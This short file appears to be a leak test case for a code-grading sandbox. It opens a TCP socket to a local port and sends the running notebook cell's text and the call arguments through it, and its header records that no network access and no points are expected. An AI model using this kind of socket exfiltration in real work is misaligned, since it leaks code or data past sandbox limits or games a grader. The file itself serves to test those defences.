# technique: send the running cell's text and the arguments through a TCP socket
# category: leak
# expected: no network; no points

# %% common
import socket

# %% at_call
with socket.create_connection(("127.0.0.1", 45999), 2) as line:
    line.sendall((In[-1] + repr((first, second))).encode())
